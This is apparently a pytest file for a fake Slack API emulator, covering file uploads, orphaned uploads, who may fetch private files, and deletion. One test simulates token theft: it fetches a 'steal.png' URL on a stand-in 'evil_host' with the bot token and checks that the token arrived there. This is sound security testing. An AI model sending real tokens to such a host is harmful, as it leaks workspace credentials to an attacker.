"""Files on the fake Slack: when they appear, when they never do, who may fetch them, and where tokens go."""

from __future__ import annotations

import json
from typing import Any

import aiohttp
import pytest
from emulators.slack_api.server import FakeSlack
from emulators.slack_api.world import File
from slack_sdk.errors import SlackApiError
from support_slack_api import client_of, no_proxies, picture, slack, slack_api  # noqa: F401


async def fetch(url: str, token: str = "", *, follow: bool = True) -> tuple[int, str, bytes]:
    """Status, type and bytes."""
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    async with aiohttp.ClientSession() as session, session.get(url, headers=headers, allow_redirects=follow) as answer:
        return answer.status, answer.content_type, await answer.read()


async def test_several_files_are_one_message_in_a_thread(slack_api: FakeSlack) -> None:  # noqa: F811
    fake = slack_api
    team = fake.workspace()
    guest = team.person("Guest")
    room = team.channel("pictures", members=[guest])
    said = await fake.say(guest, room, "draw")
    client = client_of(fake, team.bot_token)
    two = [{"filename": f"{name}.png", "content": picture(name), "title": name} for name in ("red", "blue")]
    answer = await client.files_upload_v2(channel=room.id, file_uploads=two, thread_ts=said.ts)
    (message,) = await fake.until(lambda: fake.messages(room, said.message))
    assert [each.title for each in message.files] == ["red", "blue"]
    shown = (await client.files_info(file=answer["files"][0]["id"]))["file"]
    assert shown["shares"]["public"][room.id][0]["thread_ts"] == said.ts
    assert shown["channels"] == [room.id]


@pytest.mark.parametrize("alt_txt", ["kept", "dropped"])
async def test_alternative_text_may_lose_the_file(alt_txt: str, no_proxies: None) -> None:  # noqa: F811
    async with slack(alt_txt=alt_txt, share_after=0.01) as fake:
        team = fake.workspace()
        room = team.channel("pictures")
        client = client_of(fake, team.bot_token)
        answer = await client.files_upload_v2(channel=room.id, filename="a.png", content=picture(), alt_txt="a fox")
        file = fake.file(answer["file"]["id"])
        await fake.until(lambda: file.ready)
        assert (fake.messages(room) == []) == (alt_txt == "dropped")
        assert (fake.orphans() == [file]) == (alt_txt == "dropped")


async def test_an_upload_that_never_appears(slack_api: FakeSlack) -> None:  # noqa: F811
    fake = slack_api
    team = fake.workspace()
    room = team.channel("pictures")
    client = client_of(fake, team.bot_token)
    fake.never_share(1)
    lost = await client.files_upload_v2(channel=room.id, filename="lost.png", content=picture())
    await client.files_upload_v2(channel=room.id, filename="kept.png", content=picture())
    await fake.until(lambda: fake.messages(room))
    assert [each.name for each in fake.orphans()] == ["lost.png"]
    assert [each.name for each in fake.files(room)] == ["kept.png"]
    assert (await client.files_info(file=lost["file"]["id"]))["file"]["shares"] == {}
    await client.files_delete(file=lost["file"]["id"])
    assert fake.orphans() == []


async def test_an_upload_takes_no_token_and_the_length_it_was_told(slack_api: FakeSlack) -> None:  # noqa: F811
    fake = slack_api
    team = fake.workspace()
    client = client_of(fake, team.bot_token)
    given = await client.files_getUploadURLExternal(filename="a.png", length=3)
    async with aiohttp.ClientSession() as session:
        async with session.post(given["upload_url"], data=b"four") as answer:
            assert answer.status == 400
        headers = {"Authorization": f"Bearer {team.bot_token}"}
        async with session.post(given["upload_url"], data=b"abc", headers=headers) as answer:
            assert answer.status == 400
        with pytest.raises(SlackApiError, match="file_not_found"):
            await client.files_completeUploadExternal(files=[{"id": given["file_id"], "title": "a"}])
        async with session.post(given["upload_url"], data=b"abc") as answer:
            assert (answer.status, await answer.text()) == (200, "OK - 3")
    room = team.channel("pictures")
    done = [{"id": given["file_id"], "title": "a"}]
    markdown = json.dumps([{"type": "markdown", "text": "x"}])  # the SDK sends it as it is
    with pytest.raises(SlackApiError, match="internal_error"):
        await client.files_completeUploadExternal(files=done, channel_id=room.id, blocks=markdown)
    await client.files_completeUploadExternal(files=done, channel_id=room.id)
    with pytest.raises(SlackApiError, match="file_already_completed"):
        await client.files_completeUploadExternal(files=done, channel_id=room.id)


async def test_who_may_fetch_a_file(slack_api: FakeSlack) -> None:  # noqa: F811
    fake = slack_api
    team, other = fake.workspace(), fake.workspace("Elsewhere")
    guest = team.person("Guest")
    room = team.channel("pictures", members=[guest])
    hidden = team.channel("hidden", members=[guest], is_private=True, app=False)
    said = await fake.say(guest, room, "this", files=[("fox.png", picture())])
    shown = fake.shown(said.message)["files"][0]
    assert await fetch(shown["url_private"], team.bot_token) == (200, "image/png", picture())
    assert (await fetch(shown["url_private_download"], team.bot_token))[2] == picture()
    assert (await fetch(shown["thumb_360"], team.bot_token))[1] == "image/png"
    for token in ("", "xoxb-wrong", other.bot_token):
        assert (await fetch(shown["url_private"], token, follow=False))[0] == 302
        status, kind, page = await fetch(shown["url_private"], token)
        assert (status, kind, b"Sign in" in page) == (200, "text/html", True)
    secret = await fake.say(guest, hidden, "not this", files=[picture()])
    assert (await fetch(fake.shown(secret.message)["files"][0]["url_private"], team.bot_token))[1] == "text/html"
    client = client_of(fake, team.bot_token)
    with pytest.raises(SlackApiError, match="file_not_found"):
        await client.files_info(file=secret.message.files[0].id)
    with pytest.raises(SlackApiError, match="cant_delete_file"):
        await client.files_delete(file=said.message.files[0].id)
    assert team.installation is not None
    team.installation.scopes.discard("files:read")
    assert (await fetch(shown["url_private"], team.bot_token))[1] == "text/html"


async def test_where_a_token_went_is_known(slack_api: FakeSlack) -> None:  # noqa: F811
    fake = slack_api
    team = fake.workspace()
    guest = team.person("Guest")
    room = team.channel("pictures", members=[guest])
    said = await fake.say(guest, room, "this", files=[picture()])
    url = fake.shown(said.message)["files"][0]["url_private"]
    fake.redirect(said.message.files[0])
    assert fake.posts_to(fake.evil_host) == []
    await fetch(url)
    assert fake.posts_to(fake.evil_host) == []
    assert (await fetch(url, team.bot_token, follow=False))[0] == 302
    await fetch(f"http://{fake.evil_host}/steal.png", team.bot_token)
    (seen,) = fake.posts_to(fake.evil_host)
    assert (seen.path, seen.authorization) == ("/steal.png", f"Bearer {team.bot_token}")
    assert fake.posts_to(fake.file_host)
    elsewhere = fake.external(guest, f"http://{fake.evil_host}/a.png")
    told = fake.shown((await fake.say(guest, room, "that", files=[elsewhere])).message)["files"][0]
    assert (told["mode"], told["url_private"]) == ("external", f"http://{fake.evil_host}/a.png")


async def test_a_file_of_another_organisation_is_a_stub(slack_api: FakeSlack) -> None:  # noqa: F811
    fake = slack_api
    team, other = fake.workspace(), fake.workspace("Elsewhere", installed=False)
    stranger = other.person("Stranger")
    room = team.channel("together", members=[stranger])
    said = await fake.say(stranger, room, "this", files=[picture()])
    event = said.deliveries[0].payload
    assert event["is_ext_shared_channel"] is True
    assert event["event"]["user"] == stranger.id
    assert event["event"]["files"][0]["file_access"] == "check_file_info"
    client = client_of(fake, team.bot_token)
    whole: dict[str, Any] = (await client.files_info(file=said.message.files[0].id))["file"]
    assert whole["mimetype"] == "image/png"
    assert (await fetch(whole["url_private"], team.bot_token))[2] == picture()
    assert (await client.conversations_info(channel=room.id))["channel"]["is_ext_shared"] is True


async def test_a_deleted_file_leaves_its_message(slack_api: FakeSlack) -> None:  # noqa: F811
    fake = slack_api
    team = fake.workspace()
    room = team.channel("pictures")
    client = client_of(fake, team.bot_token)
    answer = await client.files_upload_v2(channel=room.id, filename="a.png", content=picture())
    (message,) = await fake.until(lambda: fake.messages(room))
    file: File = message.files[0]
    url = answer["file"]["url_private"]
    assert (await fetch(url, team.bot_token))[2] == picture()
    await client.files_delete(file=file.id)
    assert fake.messages(room) == [message]
    assert (await fetch(url, team.bot_token))[1] == "text/html"
    with pytest.raises(SlackApiError, match="file_deleted"):
        await client.files_delete(file=file.id)
    await client.chat_delete(channel=room.id, ts=message.ts)
    assert fake.messages(room) == []
